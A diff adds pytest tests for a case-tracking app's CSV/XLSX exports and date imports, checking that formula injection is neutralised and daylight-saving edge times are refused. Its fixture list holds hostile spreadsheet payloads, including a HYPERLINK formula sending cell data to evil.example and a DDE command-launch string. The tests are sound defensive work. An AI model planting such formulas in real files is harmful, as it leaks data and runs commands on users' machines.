@@ -130,3 +130,71 @@ def test_the_contact_details_screen_sees_through_full_width_spacing_and_at(desk:
     with pytest.raises(ValidationError, match="looks like contact details"):
         RecordFollowUp(user="coordinator", at=at("2018-03-05T10:00"), case=case, kind="visit", outcome=text)
     desk.send(RecordFollowUp, case=case, kind="visit", outcome="Seen at 10.30 on 01/03/2018, 3 youths, 2 calls")
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
+            "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_exports_never_carry_a_live_formula_and_xlsx_dates_are_dates(desk: Desk, services: Services, tmp_path,
+                                                                   fmt: str) -> None:  # noqa: ANN001
+    """Item 27: OWASP's rule (a single quote before = + - @ tab CR) in every CSV and XLSX export."""
+    import csv
+
+    import openpyxl
+
+    from tasking.data.export import export
+
+    cases = {desk.report("2018-03-02T10:00", location=location): location for location in FORMULAS}
+    out = tmp_path / f"cases.{fmt}"
+    export(services.read(user="coordinator", action="export"), "cases", fmt, out)
+    if fmt == "csv":
+        with out.open(encoding="utf-8", newline="") as found:
+            rows = {row["case"]: row for row in csv.DictReader(found)}
+        cells = {case: rows[case]["location"] for case in cases}
+        assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in cells.values())
+    else:
+        sheet = openpyxl.load_workbook(out)["cases"]
+        header = [cell.value for cell in sheet[1]]
+        rows = {row[0].value: dict(zip(header, row)) for row in sheet.iter_rows(min_row=2)}
+        assert all(rows[case]["location"].data_type == "s" for case in cases)
+        cells = {case: rows[case]["location"].value for case in cases}
+        received = rows[next(iter(cases))]["received_at"]
+        assert received.is_date and received.value == dt.datetime(2018, 3, 2, 10, 0)  # UTC (GMT in March)
+    assert cells == {case: "'" + location.strip() for case, location in cases.items()}  # shown as typed, inert
+
+
+def test_a_text_cell_is_neutralised_and_a_number_is_left_alone() -> None:
+    from tasking.data.cells import neutral, xlsx_value
+
+    assert [neutral(v) for v in ("\t=1", "\r=1", "-x", "Azalea Shops", -3, 2.5, None)] == [
+        "'\t=1", "'\r=1", "'-x", "Azalea Shops", -3, 2.5, None]
+    assert xlsx_value("2018-03-09") == dt.date(2018, 3, 9)
+    assert xlsx_value("2018-07-01T08:00:00+01:00") == dt.datetime(2018, 7, 1, 7, 0)
+
+
+@pytest.mark.parametrize(("text", "cli_text", "rule"), [
+    ("25/03/2018 01:30", "2018-03-25T01:30", "does not exist in Europe/London: the clocks go forward from 01:00 to 02:00"),
+    ("29/10/2017 01:30", "2017-10-29T01:30", "happens twice in Europe/London (the clocks go back)"),
+])
+@pytest.mark.parametrize("cell", ["text", "spreadsheet date"])
+def test_an_imported_time_in_the_spring_gap_or_autumn_overlap_is_refused_as_the_cli_refuses_it(
+        people, services: Services, text: str, cli_text: str, rule: str, cell: str) -> None:  # noqa: ANN001
+    """Item 28: one rule for every way in (`tasking.time.instants.wall_clock`), with the CLI's message."""
+    from pathlib import Path
+
+    from tasking.data.partner_import import Mapping, prepare
+    from tasking.time.instants import parse_datetime
+
+    mapping = Mapping.load(Path(__file__).resolve().parents[2] / "examples" / "housing-import.toml")
+    value = text if cell == "text" else dt.datetime.strptime(text, "%d/%m/%Y %H:%M")
+    row = {"Case No": "WK-1", "Date Reported": value, "ASB Type": "Noise", "Parish": "Edenbridge",
+           "Street": "1 Azalea Drive", "Summary": "Loud music", "Risk": "Low"}
+    errors = prepare(2, row, mapping, services.app.config, None, "coordinator")
+    assert isinstance(errors, list), "the row was accepted"
+    [error] = [e for e in errors if e.column == "Date Reported"]
+    with pytest.raises(DomainError) as cli:
+        parse_datetime(cli_text, "received")
+    assert rule in error.rule and rule in str(cli.value)
+    assert error.rule.split("' ", 1)[1] == str(cli.value).split("' ", 1)[1]  # the same words after the value
